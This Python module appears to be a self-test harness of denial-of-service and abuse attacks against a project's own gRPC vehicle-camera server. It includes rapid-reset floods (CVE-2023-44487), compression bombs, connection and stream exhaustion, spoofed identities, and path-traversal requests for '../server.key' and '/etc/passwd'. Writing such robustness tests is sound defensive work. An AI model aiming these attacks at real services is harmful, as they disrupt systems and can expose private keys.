"""Attacks by calls: of vehicles and consumers with certificates of their own.

Each attack is a coroutine that goes on until it is cancelled; none waits for an answer that a decoy
would not give, so that the same load can be aimed at one, to see what it costs alone.
"""

from __future__ import annotations

import asyncio
import itertools
import random
from collections.abc import AsyncIterator, Callable
from dataclasses import replace
from pathlib import Path

import grpc

from attack.target import SEED, VEHICLE, Target, all_of, for_ever, frame, hello, stream_of
from frames import far_away, flipped, message_of
from rfcore.wire.conventions import CHANNEL_OPTIONS, STREAM_METHOD
from rfcore.wire.convert import hello_to_bytes
from rfcore.wire.messages import Hello
from rfcore.wire.twin import PictureEncoding, Subscription, subscription_to_wire
from rfcore.wire.v1 import field_pb2, field_pb2_grpc, twin_pb2_grpc


async def unread_fetches(target: Target) -> None:
    """750 FetchField streams of one consumer that nobody reads."""

    async def connection() -> None:
        async with target.channel("consumer-attacker") as channel:
            stub = field_pb2_grpc.FieldServiceStub(channel)
            request = field_pb2.FetchFieldRequest(field_id=target.field_id)
            calls = [stub.FetchField(request) for _ in range(250)]
            await asyncio.sleep(1.0)
            del calls

    await all_of(*(for_ever(connection) for _ in range(3)))


async def decoders_for_nothing(target: Target) -> None:
    """8 streams with 16 cameras each, a decoder process for each camera."""
    asked = hello(target, 640, 360, 16)
    await all_of(*(for_ever(lambda: hello_and_wait(target, asked, 2.0)) for _ in range(8)))


async def hello_and_wait(target: Target, asked: Hello, wait_s: float) -> None:
    """Say Hello on a connection of its own, and leave after a while."""
    async with target.channel() as channel:
        call = channel.stream_stream(STREAM_METHOD)()
        await call.write(hello_to_bytes(asked))
        await asyncio.sleep(wait_s)


async def decoders_within_budget(target: Target) -> None:
    """2 streams with 2 cameras each: decoder processes that no picture is sent to."""
    greeting = hello(target, 640, 360, 4)
    halves = greeting.cameras[:2], greeting.cameras[2:]
    await all_of(*(hold_stream(target, replace(greeting, cameras=half)) for half in halves))


async def hold_stream(target: Target, asked: Hello) -> None:
    """Open a stream that says Hello and nothing more, again when the server has ended it."""
    data = hello_to_bytes(asked)

    async def stream() -> None:
        async with target.channel() as channel:
            call = channel.stream_stream(STREAM_METHOD)()
            await call.write(data)
            await call.code()

    await for_ever(stream, 0.1)


async def send_for_ever(
    target: Target,
    size: tuple[int, int],
    message: Callable[[Hello, int], bytes],
    every_s: float,
    streams: int = 1,
) -> None:
    """Send ``message(0)``, ``message(1)``, ... after a Hello on each stream, again when it ends."""
    greeting = hello(target, *size)

    async def messages() -> AsyncIterator[bytes]:
        yield hello_to_bytes(greeting)
        for number in range(1_000_000):
            yield message(greeting, number)
            await asyncio.sleep(every_s)

    async def stream() -> None:
        async with target.channel() as channel:
            await stream_of(channel, messages())

    await all_of(*(for_ever(stream, 0.05) for _ in range(streams)))


async def frames_that_cost_a_render(
    target: Target, *, good_crc: bool, size: tuple[int, int]
) -> None:
    def message(greeting: Hello, number: int) -> bytes:
        data = message_of(greeting, frame(number, b"\x41junk"))
        return data if good_crc else flipped(data)

    await send_for_ever(target, size, message, 0.002, streams=4)


async def bad_crc(target: Target) -> None:
    """Frames of 2048x1152 with a wrong CRC, as fast as they are taken."""
    await frames_that_cost_a_render(target, good_crc=False, size=(2048, 1152))


async def junk_slices(target: Target) -> None:
    """Frames of 1280x720 with a good CRC and nothing decodable, as fast as they are taken."""
    await frames_that_cost_a_render(target, good_crc=True, size=(1280, 720))


async def greedy_promise(target: Target) -> None:
    """One Hello that asks for 16 cameras of 1080p at 1000 Hz, then nothing."""
    asked = hello(target, 1920, 1080, 16, 1000.0)
    await for_ever(lambda: hello_and_wait(target, asked, 5.0))


async def greedy_promise_within_budget(target: Target) -> None:
    """One Hello that asks for 4 cameras of 1080p at 1000 Hz, as many decoders as it may have."""
    await hold_stream(target, hello(target, 1920, 1080, 4, 1000.0))


async def cancelled_hellos(target: Target) -> None:
    """Streams that are cancelled right after their Hello."""
    data = hello_to_bytes(hello(target, 640, 360, 8))

    async def stream() -> None:
        async with target.channel() as channel:
            for _ in range(20):
                call = channel.stream_stream(STREAM_METHOD)()
                await call.write(data)
                call.cancel()

    await all_of(*(for_ever(stream, 0.02) for _ in range(4)))


async def unread_refusals(target: Target) -> None:
    """4 streams of messages that are refused one by one, and no answer is read."""
    rng = random.Random(SEED)

    async def messages() -> AsyncIterator[bytes]:
        yield hello_to_bytes(hello(target, 640, 360))
        while True:
            yield rng.randbytes(200)

    async def stream() -> None:
        async with target.channel() as channel:
            await stream_of(channel, messages())

    await all_of(*(for_ever(stream, 0.02) for _ in range(4)))


async def unread_watches(target: Target) -> None:
    """16 consumers of one identity that watch uncoded pictures and read nothing."""
    request = subscription_to_wire(Subscription(encoding=PictureEncoding.I420))

    async def consumer() -> None:
        async with target.channel("consumer-attacker") as channel:
            call = twin_pb2_grpc.TwinServiceStub(channel).Watch(request)
            await asyncio.sleep(2.0)
            call.cancel()

    await all_of(*(for_ever(consumer) for _ in range(16)))


async def impossible_times(target: Target) -> None:
    """Frames captured at time 0 and at 2^63 - 1."""

    def message(greeting: Hello, number: int) -> bytes:
        captured_ns = (0, 2**63 - 1)[number % 2]
        return message_of(greeting, frame(number, captured_ns=captured_ns))

    await send_for_ever(target, (320, 180), message, 0.02)


async def many_streams(target: Target) -> None:
    """2000 streams of one identity, none with a Hello."""

    async def connection() -> None:
        async with target.channel() as channel:
            calls = [channel.stream_stream(STREAM_METHOD)() for _ in range(500)]
            await asyncio.sleep(1.0)
            for call in calls:
                call.cancel()

    await all_of(*(for_ever(connection) for _ in range(4)))


async def compressed_bombs(target: Target) -> None:
    """Messages of 4 MiB of zeros, compressed to 4 KiB, one a call."""
    bomb = bytes(4 << 20)

    async def stream() -> None:
        credentials = target.tls(f"vehicle-{VEHICLE}").channel_credentials()
        async with grpc.aio.secure_channel(
            target.address, credentials, CHANNEL_OPTIONS, grpc.Compression.Gzip
        ) as channel:
            for _ in range(100):
                call = channel.stream_stream(STREAM_METHOD)()
                await call.write(bomb)
                call.cancel()

    await all_of(*(for_ever(stream) for _ in range(4)))


async def rapid_resets(target: Target) -> None:
    """Calls that are reset as soon as their headers are sent (CVE-2023-44487)."""

    async def connection() -> None:
        async with target.channel() as channel:
            for _ in range(2000):
                call = channel.stream_stream(STREAM_METHOD)()
                await call.wait_for_connection()
                call.cancel()

    await for_ever(connection)


async def foreign_names(target: Target) -> None:
    """Hellos under another vehicle's name."""
    data = hello_to_bytes(replace(hello(target, 640, 360), vehicle_id="bystander"))

    async def stream() -> None:
        async with target.channel() as channel:
            for _ in range(10):
                call = channel.stream_stream(STREAM_METHOD)()
                await call.write(data)
                await call.code()

    await for_ever(stream, 0.01)


async def refused_frames(target: Target) -> None:
    """Frames of another render, every second one left out: a Nack for each."""

    def message(greeting: Hello, number: int) -> bytes:
        return message_of(greeting, frame(2 * number + 1))

    await send_for_ever(target, (320, 180), message, 0.005)


async def unknown_fields(target: Target) -> None:
    """Messages with 200,000 fields that nobody knows."""
    tag = bytes([0xF8, 0xFF, 0x07, 0x01])  # field 16383, varint 1
    many = tag * 200_000
    await send_for_ever(target, (320, 180), lambda *_: many, 0.005)


async def odd_numbers(target: Target) -> None:
    """Poses 450,000 km away, sequences of 2^63 - 1."""

    def message(greeting: Hello, number: int) -> bytes:
        if number % 2:
            return far_away(greeting, frame(number), 900_000.0)
        return message_of(greeting, frame((1 << 63) - 1))

    await send_for_ever(target, (320, 180), message, 0.005)


async def foreign_paths(target: Target) -> None:
    """FetchField of ids that are paths out of the folder, or 1 MB long."""
    ids = ("../server.key", "/etc/passwd", "..%2f..%2fca.key", "\0", "a" * 1_000_000, "f" * 64)

    async def connection() -> None:
        async with target.channel("consumer-attacker") as channel:
            stub = field_pb2_grpc.FieldServiceStub(channel)
            for field_id in ids:
                stub.FetchField(field_pb2.FetchFieldRequest(field_id=field_id))
            await asyncio.sleep(0.05)

    await all_of(*(for_ever(connection) for _ in range(2)))


async def many_connections(target: Target) -> None:
    """300 connections of one identity, each with a Hello."""
    asked = hello(target, 320, 180)
    await all_of(*(for_ever(lambda: hello_and_wait(target, asked, 2.0)) for _ in range(300)))


async def revoked(target: Target) -> None:
    """Streams that go on while their certificate is revoked, let in, revoked again."""
    path = Path(target.access)
    lines = path.read_text().splitlines(keepends=True)
    of_consumers = "".join(line for line in lines if not line.startswith("revoked"))

    async def access() -> None:
        for number in itertools.count():
            rule = f'revoked = ["spiffe://rfedge/vehicle/{VEHICLE}"]\n' * (number % 2)
            path.write_text(rule + of_consumers)
            await asyncio.sleep(1.5)

    await all_of(access(), junk_slices(target))
